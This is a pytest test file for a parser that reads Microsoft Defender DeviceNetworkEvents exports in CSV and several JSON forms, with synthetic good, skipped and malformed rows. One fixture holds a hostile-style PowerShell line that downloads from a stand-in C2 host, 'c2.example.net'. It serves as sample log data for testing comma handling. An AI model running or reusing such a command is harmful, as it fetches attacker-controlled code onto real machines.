"""DefenderSource on DeviceNetworkEvents fixtures built from Microsoft's published schema (there is no
public sample): CSV exports with every column, JSON variants, streamed records, bad rows."""

from __future__ import annotations

import csv
import functools
import gzip
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pyarrow as pa
import pytest

from bothunt.errors import InputError
from bothunt.schema import conform
from bothunt.sources import base, tabular, tabular_csv
from bothunt.sources.base import ReadContext, read_head
from bothunt.sources.cef import CefSource
from bothunt.sources.commonsecuritylog import CommonSecurityLogSource
from bothunt.sources.defender import FIELDS, REQUIRED, DefenderSource

# The Advanced Hunting CSV export writes every column of the table, in this order.
HEADER = [
    "Timestamp", "DeviceId", "DeviceName", "ActionType", "RemoteIP", "RemotePort", "RemoteUrl",
    "LocalIP", "LocalPort", "Protocol", "LocalIPType", "RemoteIPType", "InitiatingProcessSHA1",
    "InitiatingProcessSHA256", "InitiatingProcessMD5", "InitiatingProcessFileName",
    "InitiatingProcessFileSize", "InitiatingProcessVersionInfoCompanyName",
    "InitiatingProcessVersionInfoProductName", "InitiatingProcessVersionInfoProductVersion",
    "InitiatingProcessVersionInfoInternalFileName", "InitiatingProcessVersionInfoOriginalFileName",
    "InitiatingProcessVersionInfoFileDescription", "InitiatingProcessId",
    "InitiatingProcessCommandLine", "InitiatingProcessCreationTime", "InitiatingProcessFolderPath",
    "InitiatingProcessParentFileName", "InitiatingProcessParentId",
    "InitiatingProcessParentCreationTime", "InitiatingProcessAccountDomain",
    "InitiatingProcessAccountName", "InitiatingProcessAccountSid", "InitiatingProcessAccountUpn",
    "InitiatingProcessAccountObjectId", "InitiatingProcessIntegrityLevel",
    "InitiatingProcessTokenElevation", "ReportId", "AppGuardContainerId", "AdditionalFields",
]

DEV = "a1b2c3d4e5f60718293a4b5c6d7e8f9012345678"


def record(ts, action, rip, rport, lip, lport, proto, *, url="", rtype="Public", proc="", pid="",
           cmd="", dom="", acct="", report="1", extra="", device=DEV, name="ws01.corp.example"):
    """One DeviceNetworkEvents row as a dict of every exported column (unset ones empty)."""
    row = dict.fromkeys(HEADER, "")
    row.update({
        "Timestamp": ts, "DeviceId": device, "DeviceName": name, "ActionType": action, "RemoteIP": rip,
        "RemotePort": rport, "RemoteUrl": url, "LocalIP": lip, "LocalPort": lport, "Protocol": proto,
        "LocalIPType": "Private" if lip.startswith(("10.", "192.168.")) else "", "RemoteIPType": rtype,
        "InitiatingProcessFileName": proc, "InitiatingProcessId": pid,
        "InitiatingProcessCommandLine": cmd, "InitiatingProcessAccountDomain": dom,
        "InitiatingProcessAccountName": acct, "ReportId": report, "AdditionalFields": extra,
        "InitiatingProcessSHA1": "3f64c98f22da277a07cab248c44c56eedb796a81" if proc else "",
    })
    return row


CMD_COMMAS = '"powershell.exe" -nop -c "iwr https://c2.example.net/a,b?x=1, -UseBasicParsing"'
GOOD = [
    record("2024-05-01T12:34:56.1234567Z", "ConnectionSuccess", "20.50.201.200", "443",
           "192.168.1.74", "51697", "Tcp", url="https://Eu-V20.Events.Data.Microsoft.COM:443/ping?a=1",
           proc="powershell.exe", pid="4180", cmd=CMD_COMMAS, dom="corp", acct="alice", report="15554",
           extra='{"Direction":"Out","Note":"a, \\"quoted\\" value"}'),
    record("2024-05-01T12:35:00Z", "InboundConnectionAccepted", "203.0.113.9", "52694",
           "192.168.1.74", "3389", "TcpV4", proc="svchost.exe", pid="1200",
           cmd="svchost.exe -k termsvcs -s TermService ", dom="nt authority", acct="network service",
           report="15555"),
    record("2024-05-01T14:35:01+02:00", "ConnectionFailed", "2001:DB8:0:1::25", "25",
           "fe80::1c2d:3e4f:5a6b:7c8d%12", "50000", "TcpV6", rtype="Public", proc="chrome.exe",
           pid="777", cmd="chrome.exe --type=utility\n--lang=en-US", acct="bob", report="15556"),
    record("2024-05-01T12:36:00.5Z", "ConnectionAttempt", "198.51.100.7", "8443", "::ffff:10.20.30.40",
           "49152", "Udp", rtype="", report="15557"),
    record("2024-05-01T12:37:00Z", "ConnectionRequest", "93.184.216.34", "80", "10.20.30.40", "49153",
           "Tcp", url="example.com", proc="curl.exe", pid="42", report="15558"),
]
SKIPPED = [
    record("2024-05-01T12:35:00Z", "ListeningConnectionCreated", "", "", "0.0.0.0", "3389", "TcpV4",
           rtype="", proc="svchost.exe", report="15560"),
    record("2024-05-01T12:35:01Z", "HttpConnectionInspected", "192.168.1.1", "8080", "192.168.1.74", "57504",
           "Tcp", report="15561", extra='{"direction":"Out","host":"www.gstatic.com","method":"CONNECT"}'),
    record("2024-05-01T12:35:02Z", "ProcessCreated", "", "", "", "", "", rtype="", proc="cmd.exe",
           report="15562"),
]
BAD = [
    (record("yesterday at noon", "ConnectionSuccess", "1.1.1.1", "443", "10.0.0.1", "1000", "Tcp"),
     "bad Timestamp: yesterday at noon"),
    (record("2024-05-01T12:35:00Z", "ConnectionSuccess", "1.1.1.1", "70000", "10.0.0.1", "1000", "Tcp"),
     "bad RemotePort: 70000"),
    (record("2024-05-01T12:35:00Z", "ConnectionSuccess", "not-an-ip", "443", "10.0.0.1", "1000", "Tcp"),
     "bad RemoteIP: not-an-ip"),
    (record("2024-05-01T12:35:00Z", "ConnectionSuccess", "", "443", "10.0.0.1", "1000", "Tcp"),
     "missing RemoteIP"),
]

T = functools.partial(datetime, tzinfo=UTC)
EXPECTED = [
    dict(ts=T(2024, 5, 1, 12, 34, 56, 123456), src_ip="192.168.1.74", src_port=51697, dst_ip="20.50.201.200",
         dst_port=443, proto="tcp", direction=None, state="established", action="ConnectionSuccess",
         host="ws01.corp.example", user="corp\\alice", process="powershell.exe", pid=4180, cmdline=CMD_COMMAS,
         server_name="eu-v20.events.data.microsoft.com", remote_ip_type="Public", source="defender",
         uid=f"{DEV}:15554"),
    dict(ts=T(2024, 5, 1, 12, 35), src_ip="203.0.113.9", src_port=52694, dst_ip="192.168.1.74", dst_port=3389,
         proto="tcp", direction="inbound", state="established", action="InboundConnectionAccepted",
         host="ws01.corp.example", user="nt authority\\network service", process="svchost.exe", pid=1200,
         cmdline="svchost.exe -k termsvcs -s TermService ", server_name=None, remote_ip_type="Public",
         source="defender", uid=f"{DEV}:15555"),
    dict(ts=T(2024, 5, 1, 12, 35, 1), src_ip="fe80::1c2d:3e4f:5a6b:7c8d%12", src_port=50000,
         dst_ip="2001:db8:0:1::25", dst_port=25, proto="tcp", direction=None, state="rejected",
         action="ConnectionFailed", host="ws01.corp.example", user="bob", process="chrome.exe", pid=777,
         cmdline="chrome.exe --type=utility\n--lang=en-US", server_name=None, remote_ip_type="Public",
         source="defender", uid=f"{DEV}:15556"),
    dict(ts=T(2024, 5, 1, 12, 36, 0, 500000), src_ip="10.20.30.40", src_port=49152, dst_ip="198.51.100.7",
         dst_port=8443, proto="udp", direction=None, state="attempted", action="ConnectionAttempt",
         host="ws01.corp.example", user=None, process=None, pid=None, cmdline=None, server_name=None,
         remote_ip_type=None, source="defender", uid=f"{DEV}:15557"),
    dict(ts=T(2024, 5, 1, 12, 37), src_ip="10.20.30.40", src_port=49153, dst_ip="93.184.216.34", dst_port=80,
         proto="tcp", direction=None, state="attempted", action="ConnectionRequest", host="ws01.corp.example",
         user=None, process="curl.exe", pid=42, cmdline=None, server_name="example.com",
         remote_ip_type="Public", source="defender", uid=f"{DEV}:15558"),
]


def to_csv(rows: list[dict], header: list[str] = HEADER) -> str:
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=header, lineterminator="\r\n", extrasaction="ignore")
    w.writeheader()
    w.writerows(rows)
    return buf.getvalue()


def read(path: Path, source=None) -> tuple[pa.Table, list[tuple], ReadContext]:
    rejects: list[tuple] = []
    ctx = ReadContext(str(path), reject_fn=lambda line, reason, raw: rejects.append((line, reason, raw)))
    batches = [conform(b.data, b.table) for b in (source or DefenderSource()).read(path, ctx)]
    table = pa.concat_tables(batches) if batches else conform(pa.table({}), "conn")
    return table, rejects, ctx


def small_chunks(monkeypatch, size: int) -> list[int]:
    """Make the CSV reader read chunks of about `size` bytes. The list returned fills with the sizes of
    the chunks read, so a test can show that the patch reached the module that reads them."""
    sizes: list[int] = []

    def chunks(path: Path, ctx: ReadContext):
        for first_line, chunk in base.iter_chunks(path, ctx, size=size):
            sizes.append(len(chunk))
            yield first_line, chunk

    monkeypatch.setattr(tabular_csv, "iter_chunks", chunks)
    return sizes


def project(table: pa.Table) -> list[dict]:
    return [{k: row[k] for k in EXPECTED[0]} for row in table.to_pylist()]


def json_row(row: dict) -> dict:
    """A record as Defender's JSON writes it: numbers for numeric columns, no empty strings."""
    out = {}
    for k, v in row.items():
        if v == "":
            continue
        out[k] = int(v) if k in ("RemotePort", "LocalPort", "InitiatingProcessId", "ReportId") else v
    return out


def test_csv_export_rows_rejects_and_skips(tmp_path):
    rows = GOOD[:2] + SKIPPED[:1] + [BAD[0][0]] + GOOD[2:] + SKIPPED[1:] + [b for b, _ in BAD[1:]]
    path = tmp_path / "DeviceNetworkEvents.csv"
    path.write_text(to_csv(rows), encoding="utf-8")
    table, rejects, ctx = read(path)

    assert project(table) == EXPECTED
    # Line numbers counted on the text: one header line, and GOOD[2]'s command line spans two lines.
    text_lines = path.read_text().split("\n")
    markers = ["yesterday at noon", ",70000,", ",not-an-ip,", ",ConnectionSuccess,,443,"]
    expected_lines = [next(i + 1 for i, t in enumerate(text_lines) if m in t) for m in markers]
    assert expected_lines == [5, 12, 13, 14]
    assert [r[0] for r in rejects] == expected_lines
    assert [r[1] for r in rejects] == [reason for _, reason in BAD]
    assert rejects[0][2].startswith("yesterday at noon,")
    assert ctx.skipped == len(SKIPPED)
    assert any("ListeningConnectionCreated" in n for n in ctx.notes)
    assert any("HttpConnectionInspected: protocol inspection" in n for n in ctx.notes)
    assert any("ProcessCreated: not a network connection event" in n for n in ctx.notes)
    assert table.num_rows + len(rejects) + ctx.skipped == len(rows)


def test_tiny_chunks_split_quoted_fields_and_give_the_same_rows(tmp_path, monkeypatch):
    path = tmp_path / "dne.csv"
    path.write_text(to_csv(GOOD + [b for b, _ in BAD]), encoding="utf-8")
    whole, rejects_whole, _ = read(path)
    sizes = small_chunks(monkeypatch, 97)
    small, rejects_small, _ = read(path)
    assert len(sizes) > 1
    assert project(small) == EXPECTED == project(whole)
    assert [r[:2] for r in rejects_small] == [r[:2] for r in rejects_whole]


def test_timestamp_formats_and_unit_suffix_header(tmp_path):
    stamps = ["2024-05-01T12:34:56.1234567Z", "2024-05-01T12:34:56Z", "2024-05-01T12:34:56",
              "2024-05-01 14:34:56.1+02:00", "5/1/2024, 12:34:56.123 PM", "5/1/2024, 1:04:05 AM"]
    rows = [record(ts, "ConnectionSuccess", "1.1.1.1", "443", "10.0.0.1", str(1000 + i), "Tcp",
                   report=str(i)) for i, ts in enumerate(stamps)]
    header = ["Timestamp [UTC]" if h == "Timestamp" else h for h in HEADER]
    rows = [{("Timestamp [UTC]" if k == "Timestamp" else k): v for k, v in r.items()} for r in rows]
    path = tmp_path / "la.csv"
    path.write_text(to_csv(rows, header))
    table, rejects, _ = read(path)
    assert rejects == []
    assert table["ts"].to_pylist() == [
        T(2024, 5, 1, 12, 34, 56, 123456), T(2024, 5, 1, 12, 34, 56), T(2024, 5, 1, 12, 34, 56),
        T(2024, 5, 1, 12, 34, 56, 100000), T(2024, 5, 1, 12, 34, 56, 123000), T(2024, 5, 1, 1, 4, 5)]


def _variants(rows: list[dict]) -> dict[str, str]:
    recs = [json_row(r) for r in rows]
    stream = [{"time": r["Timestamp"], "tenantId": "t1", "operationName": "Publish",
               "category": "AdvancedHunting-DeviceNetworkEvents", "properties": r} for r in recs]
    other = {"time": "2024-05-01T12:00:00Z", "category": "AdvancedHunting-DeviceProcessEvents",
             "properties": {"Timestamp": "2024-05-01T12:00:00Z", "ActionType": "ProcessCreated"}}
    return {
        "array.json": json.dumps(recs, indent=2),
        "lines.json": "\n".join(json.dumps(r) for r in recs) + "\n",
        "array-lines.json": "[\n" + ",\n".join(json.dumps(r) for r in recs) + "\n]\n",
        "eventhub.json": json.dumps({"records": [*stream[:2], other]}) + "\n" + json.dumps({"records": stream[2:]}),
        "storage.json": "\n".join(json.dumps(s) for s in stream) + "\n",
        "api.json": json.dumps({"Stats": {}, "Schema": [{"Name": "Timestamp", "Type": "DateTime"}],
                                "Results": recs}, indent=1),
    }


@pytest.mark.parametrize("name", ["array.json", "lines.json", "array-lines.json", "eventhub.json",
                                  "storage.json", "api.json"])
def test_json_variants_give_the_csv_rows(tmp_path, name):
    path = tmp_path / name
    path.write_text(_variants(GOOD)[name])
    table, rejects, ctx = read(path)
    assert rejects == []
    assert project(table) == EXPECTED
    assert ctx.skipped == (1 if name == "eventhub.json" else 0)


def test_streamed_time_stands_in_for_a_missing_timestamp(tmp_path):
    props = json_row(GOOD[4])
    del props["Timestamp"]
    path = tmp_path / "s.json"
    path.write_text(json.dumps({"time": "2024-05-01T12:37:00Z", "properties": props}) + "\n")
    table, rejects, _ = read(path)
    assert rejects == [] and project(table) == EXPECTED[4:]


def test_garbage_json_lines_are_rejected_and_the_rest_kept(tmp_path):
    lines = [json.dumps(json_row(r)) for r in GOOD]
    lines[1:1] = ["this is not json", '{"Timestamp": "2024-05-01T12:00:00Z", "ActionType": "Conn',
                  "42", json.dumps(json_row(BAD[1][0]))]
    path = tmp_path / "mixed.json"
    path.write_text("\n".join(lines) + "\n")
    table, rejects, _ = read(path)
    assert project(table) == EXPECTED
    assert [(r[0], r[1]) for r in rejects] == [
        (2, "not valid JSON"), (3, "not valid JSON"), (4, "JSON value is not an object"),
        (5, "bad RemotePort: 70000")]


def test_gzip_input_is_read_by_content(tmp_path):
    path = tmp_path / "export.bin"
    path.write_bytes(gzip.compress(to_csv(GOOD).encode()))
    assert DefenderSource().sniff(read_head(path), path) > 0
    table, rejects, _ = read(path)
    assert rejects == [] and project(table) == EXPECTED


def test_csv_without_remote_ip_is_an_input_error(tmp_path):
    header = [h for h in HEADER if h != "RemoteIP"]
    path = tmp_path / "projected.csv"
    path.write_text(to_csv(GOOD, header))
    with pytest.raises(InputError, match="RemoteIP") as err:
        read(path)
    assert err.value.file == str(path)


def test_row_with_a_missing_column_is_rejected(tmp_path):
    text = to_csv(GOOD[:2]).split("\r\n")
    text[1] = text[1].replace(f"{DEV},", "", 1)  # the first data row loses its DeviceId field
    path = tmp_path / "short.csv"
    path.write_text("\r\n".join(text))
    table, rejects, _ = read(path)
    assert [(r[0], r[1]) for r in rejects] == [(2, f"expected {len(HEADER)} fields, found {len(HEADER) - 1}")]
    assert project(table) == EXPECTED[1:2]


def test_sniffing_picks_each_format(tmp_path):
    dne = tmp_path / "dne.csv"
    dne.write_text(to_csv(GOOD))
    stream = tmp_path / "dne.json"
    stream.write_text(_variants(GOOD)["eventhub.json"])
    csl = tmp_path / "csl.csv"
    csl.write_text("TimeGenerated [UTC],DeviceVendor,DeviceProduct,DeviceAction,SourceIP,SourcePort,"
                   "DestinationIP,DestinationPort,Protocol\r\n"
                   '"5/1/2024, 12:00:00.000 PM",Palo Alto Networks,PAN-OS,allow,10.0.0.5,50000,8.8.8.8,53,UDP\r\n')
    cef = tmp_path / "fw.log"
    cef.write_text("<134>Nov 27 12:00:00 fw01 CEF:0|Vendor|FW|1.0|100|traffic|3|src=10.0.0.5 dst=8.8.8.8\n")
    dne_src, csl_src, cef_src = DefenderSource(), CommonSecurityLogSource(), CefSource()
    for path in (dne, stream):
        head = read_head(path)
        assert dne_src.sniff(head, path) >= 90
        assert csl_src.sniff(head, path) == 0 and cef_src.sniff(head, path) == 0
    assert dne_src.sniff(read_head(stream), stream) == 100
    for other in (csl, cef):
        assert dne_src.sniff(read_head(other), other) == 0


@pytest.mark.parametrize("name", ["api.json", "array.json"])
def test_gzipped_json_documents(tmp_path, name):
    path = tmp_path / "export.gz"
    path.write_bytes(gzip.compress(_variants(GOOD)[name].encode()))
    table, rejects, _ = read(path)
    assert rejects == [] and project(table) == EXPECTED


def test_truncated_json_document_is_an_input_error(tmp_path):
    path = tmp_path / "cut.json"
    path.write_text(_variants(GOOD)["array.json"][:-200])
    with pytest.raises(InputError, match="not readable as JSON"):
        read(path)


def test_a_stray_quote_costs_only_its_own_lines(tmp_path):
    rows = [GOOD[0], GOOD[1], GOOD[4], GOOD[3]]
    text = to_csv(rows).split("\r\n")
    text[2] = text[2].replace("ws01.corp.example", 'ws01"corp.example', 1)  # not RFC 4180: quote mid-field
    path = tmp_path / "stray.csv"
    path.write_text("\r\n".join(text))
    table, rejects, _ = read(path)
    assert [(r[0], r[1]) for r in rejects] == [(3, f"expected {len(HEADER)} fields, found 3")]
    assert sorted(project(table), key=lambda r: r["uid"]) == [EXPECTED[0], EXPECTED[3], EXPECTED[4]]


def test_chunks_mapped_together_report_rejects_in_reading_order(tmp_path, monkeypatch):
    text = to_csv([GOOD[0], BAD[1][0], GOOD[1], GOOD[4], BAD[2][0], GOOD[2], GOOD[3]]).split("\r\n")
    text[4] = text[4].replace(f"{DEV},", "", 1)  # GOOD[4] loses its DeviceId field: rejected while splitting
    path = tmp_path / "dne.csv"
    path.write_text("\r\n".join(text))
    # One line per chunk, so batches of records span chunks and the rejects found while splitting fall
    # between the rejects of mapping.
    small_chunks(monkeypatch, 97)
    expected_rejects = [(3, "bad RemotePort: 70000"), (5, f"expected {len(HEADER)} fields, found {len(HEADER) - 1}"),
                        (6, "bad RemoteIP: not-an-ip")]
    batches = {}
    for batch_rows in (1, 2, 100_000):  # 1: every chunk mapped on its own
        monkeypatch.setattr(tabular_csv, "_BATCH_ROWS", batch_rows)
        table, rejects, _ = read(path)
        assert project(table) == [EXPECTED[0], EXPECTED[1], EXPECTED[2], EXPECTED[3]]
        assert [r[:2] for r in rejects] == expected_rejects
        assert [r[2][:30] for r in rejects] == [text[2][:30], text[4][:30], text[5][:30]]
        batches[batch_rows] = [rows.table.num_rows for rows in
                               tabular.read_rows(path, ReadContext(str(path)), FIELDS, REQUIRED)]
    # A reject found while splitting ends a batch, so that it is reported after the records before it.
    assert batches == {1: [1, 1, 1, 1, 1, 1], 2: [2, 1, 2, 1], 100_000: [3, 3]}


def _numbered(n: int) -> list[dict]:
    base_row = GOOD[1]
    return [{**base_row, "ReportId": str(20000 + i), "Timestamp": f"2024-05-01T13:{i // 60:02d}:{i % 60:02d}Z"}
            for i in range(n)]


def test_a_quote_that_never_closes_costs_its_line_with_bounded_buffers(tmp_path, monkeypatch):
    # `"ws01...` opens a quoted field that never closes: by RFC 4180 the rest of the file is one record.
    # Past MAX_OPEN_RECORD the reader goes line by line, as it does at the end of the file, so memory
    # stays bounded on a 10 GB export and the result is the same as when the whole file is read.
    text = to_csv(_numbered(300)).split("\r\n")
    text[3] = text[3].replace(",ws01.corp.example,", ',"ws01.corp.example,', 1)
    path = tmp_path / "open-quote.csv"
    path.write_text("\r\n".join(text))
    table, rejects, _ = read(path)  # the whole file is below the cap: retried line by line at its end
    assert [r[0] for r in rejects] == [4] and table.num_rows == 299

    seen: list[int] = []
    scan = tabular_csv.find_records
    monkeypatch.setattr(tabular_csv, "find_records", lambda buf, *a, **k: seen.append(len(buf)) or scan(buf, *a, **k))
    monkeypatch.setattr(tabular_csv, "MAX_OPEN_RECORD", 4000)
    small_chunks(monkeypatch, 1000)
    small, small_rejects, _ = read(path)
    assert [r[:2] for r in small_rejects] == [r[:2] for r in rejects]
    assert small.to_pylist() == table.to_pylist()
    assert path.stat().st_size > 50_000 and max(seen) < 4000 + 2 * 1000 + 1000  # cap + chunk + a line


def test_bytes_that_are_not_utf8_are_replaced_and_the_rows_kept(tmp_path):
    rows = _numbered(5)
    data = to_csv(rows).encode("utf-8").replace(b"ws01.corp.example", b"ws01.corp\xff\xfeexample", 2)
    path = tmp_path / "latin.csv"
    path.write_bytes(data)
    table, rejects, ctx = read(path)
    assert rejects == [] and table.num_rows == 5
    assert table["host"].to_pylist()[:3] == ["ws01.corp\ufffd\ufffdexample"] * 2 + ["ws01.corp.example"]
    assert any("line(s) 2, 3: bytes that are not UTF-8 replaced with U+FFFD; rows kept" in n for n in ctx.notes)


def test_json_lines_with_bytes_that_are_not_utf8_keep_their_rows_too(tmp_path):
    text = "\n".join(json.dumps(json_row(r)) for r in _numbered(4)) + "\n"
    path = tmp_path / "latin.json"
    path.write_bytes(text.encode("utf-8").replace(b"ws01.corp.example", b"ws01.corp\xffexample", 1))
    table, rejects, ctx = read(path)
    assert rejects == [] and table.num_rows == 4
    assert table["host"].to_pylist()[:2] == ["ws01.corp\ufffdexample", "ws01.corp.example"]
    assert any("line(s) 1: bytes that are not UTF-8 replaced with U+FFFD; rows kept" in n for n in ctx.notes)
